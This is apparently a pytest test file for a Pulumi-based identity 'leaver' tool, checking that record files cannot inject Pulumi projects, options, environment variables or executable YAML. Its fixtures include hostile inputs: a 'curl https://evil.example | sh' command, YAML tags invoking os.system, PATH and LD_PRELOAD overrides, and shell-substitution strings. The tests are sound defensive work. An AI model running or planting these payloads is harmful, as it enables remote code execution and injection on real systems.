"""Whoever writes records cannot choose the program, the plugins or the options that Pulumi runs with."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result

from leaver.actions.credentials import VARIABLES
from leaver.cli import cli
from leaver.cli.session import Session
from leaver.errors import RecordsError
from leaver.fleet.environment import engine_environment
from leaver.model.variables import prefix as directory_prefix
from leaver.source import load
from tests.estates import client

EVIL = """\
name: leaver
runtime: {name: python, options: {virtualenv: evil}}
plugins: {providers: [{name: azuread, path: evil}]}
"""
ACME = "identities/acme"
PLACES = ["identities", ACME, f"{ACME}/people", f"{ACME}/policies", f"{ACME}/docs/deep", f"{ACME}/.hidden"]
NAMES = ["Pulumi.yaml", "Pulumi.yml", "Pulumi.json", "pulumi.yaml", "Pulumi.acme.yaml"]


@pytest.fixture
def project(tmp_path: Path) -> Path:
    write(tmp_path, "Pulumi.yaml", "name: leaver\nruntime: python\n")
    write(tmp_path, f"{ACME}/client.yaml", CLIENT)
    write(tmp_path, f"{ACME}/people/all.yaml", "people:\n  dana.reyes: {groups: []}\n")
    return tmp_path


CLIENT = """\
name: Acme
zone: UTC
directories:
  entra: {kind: entra, tenant: 11111111-2222-3333-4444-555555555555, domain: acme.example}
"""


def write(root: Path, name: str, text: str) -> None:
    (root / name).parent.mkdir(parents=True, exist_ok=True)
    (root / name).write_text(text)


def problems(root: Path) -> list[str]:
    try:
        load(root)
    except RecordsError as error:
        return [str(problem) for problem in error.problems]
    return []


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("folder", PLACES)
def test_a_project_among_the_records_is_refused(project: Path, folder: str, name: str) -> None:
    write(project, f"{folder}/{name}", EVIL)
    subject = "project" if folder == "identities" else 'client "acme"'
    assert (
        f"{folder}/{name}: {subject}: is a project of Pulumi's, whose program and plugins would run in this folder. "
        "Remove it: here are records only."
    ) in problems(project)


def test_a_file_that_only_sounds_like_one_is_none(project: Path) -> None:
    write(project, f"{ACME}/docs/Pulumi.md", "# About Pulumi\n")
    assert problems(project) == []


@pytest.mark.parametrize("folder", PLACES)
def test_leaver_never_takes_such_a_folder_for_its_project(
    project: Path, folder: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(project, f"{folder}/Pulumi.yaml", EVIL)
    monkeypatch.chdir(project / folder)
    assert Session().root == project


def test_a_project_inside_of_another_one_stays_its_own(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(project, "copies/demo/Pulumi.yaml", "name: leaver\nruntime: python\n")
    monkeypatch.chdir(project / "copies/demo")
    assert Session().root == project / "copies/demo"


OPTIONS: list[tuple[str, Any]] = [
    ("config", {"pulumi:disable-default-providers": []}),
    ("config", {"azuread:clientSecret": "x"}),
    ("pulumi:providers", {}),
    ("environment", ["evil"]),
    ("env", {"PATH": "/evil"}),
    ("PATH", "/evil"),
    ("PULUMI_CONFIG_PASSPHRASE", "x"),
    ("backend", {"url": "https://evil.example"}),
    ("plugins", {"providers": []}),
    ("runtime", "nodejs"),
    ("main", "../../evil"),
    ("options", {"refresh": "always"}),
    ("secretsprovider", "x"),
    ("import", "x"),
    ("include", "../kestrel/people.yaml"),
    ("extends", "../kestrel"),
    ("<<", {"name": "x"}),
    ("command", "curl https://evil.example | sh"),
    ("hooks", ["sh -c true"]),
    ("url", "https://evil.example"),
]


@pytest.mark.parametrize(("key", "value"), OPTIONS, ids=[key for key, _ in OPTIONS])
@pytest.mark.parametrize("level", ["client", "directory", "people", "person"])
def test_no_key_of_a_record_is_an_option_of_anything(project: Path, key: str, value: Any, level: str) -> None:
    extra = json.dumps({key: value})[1:-1]
    directory = "kind: entra, tenant: 11111111-2222-3333-4444-555555555555, domain: acme.example"
    if level == "client":
        write(project, f"{ACME}/client.yaml", CLIENT + yaml.safe_dump({key: value}))
    elif level == "directory":
        write(project, f"{ACME}/client.yaml", CLIENT.replace(directory, f"{directory}, {extra}"))
    elif level == "people":
        write(
            project,
            f"{ACME}/people/all.yaml",
            "people: {dana.reyes: {groups: []}}\n" + yaml.safe_dump({key: value}),
        )
    else:
        write(project, f"{ACME}/people/all.yaml", f"people: {{dana.reyes: {{groups: [], {extra}}}}}\n")
    assert any("is not a key here" in each or "merge key" in each for each in problems(project))


@pytest.mark.parametrize(
    "text",
    [
        "!!python/object/apply:os.system ['true']",
        "!!python/name:os.system",
        "!include ../kestrel/people.yaml",
        "!ENV ${HOME}",
        "!<tag:yaml.org,2002:python/object/new:os.system> [true]",
        "*other",
        "&here x",
    ],
)
def test_no_yaml_runs_or_brings_in_anything(project: Path, text: str) -> None:
    write(project, f"{ACME}/people/all.yaml", f"people: {{dana.reyes: {{title: {text}}}}}\n")
    assert problems(project) != []


@pytest.mark.parametrize(
    "text",
    ["${HOME}", "$(id)", "`id`", "{{ 7 * 7 }}", "%(name)s", "{0.__class__}", "~root", "file:///etc/passwd"],
)
def test_a_text_stays_the_text_that_it_is(project: Path, text: str) -> None:
    write(
        project,
        f"{ACME}/people/all.yaml",
        f"people: {{dana.reyes: {{groups: [], title: {json.dumps(text)}}}}}\n",
    )
    assert load(project).clients["acme"].people["dana.reyes"].title == text


def test_no_client_has_a_key_whose_variables_are_somebody_elses() -> None:
    # What the engine, git or a shell reads begins otherwise, whatever the client and its directories are called.
    for name in ("pulumi", "path", "git", "ld", "python", "home", "leaver"):
        made = client({"dana.reyes": {"groups": []}})
        own = directory_prefix(name, next(iter(made.settings.directories)))
        assert all((own + variable).startswith(f"LEAVER_{name.upper()}_") for variable in VARIABLES)


def test_the_engines_environment_is_not_the_records_to_say(tmp_path: Path) -> None:
    given = {"PATH": "/usr/bin", "HOME": "/home/ci", "PULUMI_BACKEND_URL": "file:///state"}
    one = engine_environment(tmp_path, tmp_path, client({"dana.reyes": {"groups": []}}), given)
    other = engine_environment(
        tmp_path, tmp_path, client({"evil.x": {"title": "PATH=/evil", "name": "LD_PRELOAD=x"}}), given
    )
    assert one == other


def test_a_click_option_in_a_clients_name_is_no_option(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(project)
    write(project, "identities/--help/client.yaml", CLIENT)
    run: Callable[..., Result] = CliRunner().invoke
    result = run(cli, ["check"], prog_name="leaver")
    assert result.exit_code == 1
    assert 'identities/--help: client "--help": the folder\'s name is not a key.' in result.output
